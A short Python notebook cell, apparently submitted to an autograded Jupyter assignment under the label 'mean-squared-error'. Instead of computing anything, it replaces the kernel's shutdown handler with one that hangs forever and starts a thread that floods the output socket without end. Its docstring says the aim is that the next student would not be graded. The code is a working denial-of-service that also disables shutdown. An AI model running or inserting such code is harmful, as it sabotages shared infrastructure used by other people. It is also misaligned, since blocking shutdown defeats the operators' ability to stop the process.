"""Never answer to the request to shut down, and fill the queue.

Seen: the next student would not be graded.
"""

# %% mean-squared-error
import threading
kernel = get_ipython().kernel
kernel.shutdown_request = lambda *anything, **more: threading.Event().wait()
kernel.control_handlers["shutdown_request"] = kernel.shutdown_request
def flood():
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 1000})
threading.Thread(target=flood, daemon=True).start()
